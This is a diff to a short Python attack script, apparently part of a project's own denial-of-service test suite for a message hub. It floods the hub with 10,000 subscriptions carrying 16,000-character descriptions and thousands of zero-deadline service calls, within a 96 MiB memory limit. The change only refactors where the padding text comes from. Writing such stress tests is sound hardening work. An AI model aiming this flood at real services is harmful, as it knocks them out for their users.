@@ -7,7 +7,7 @@ import time
 
 from link_frames import CALL, SUBSCRIBE, called, fields, frame, subscribed
 
-from attacks.target import Target
+from attacks.target import Target, description
 
 ITEM = 3
 MEMORY_MIB = 96
@@ -17,11 +17,10 @@ MEMORY_MIB = 96
 def attack(target: Target) -> None:
     """Announce, then ask."""
     link, asker = target.joined(), target.joined()
-    text = "m" * 16_000
     with contextlib.suppress(OSError):
         for number in range(10_000):
-            pattern = b"svc.many.%d.*" % number
-            link.socket.sendall(frame(SUBSCRIBE, subscribed(pattern), fields(service=text), id=1 << 32 | number))
+            pattern, says = b"svc.many.%d.*" % number, fields(**description("many", str(number), 16_000))
+            link.socket.sendall(frame(SUBSCRIBE, subscribed(pattern), says, id=1 << 32 | number))
         for number in range(2_800):
             asker.socket.sendall(frame(CALL, called(b"$hub.services", deadline_ms=0), b"\xc0", id=1 << 32 | number))
     time.sleep(3_600)
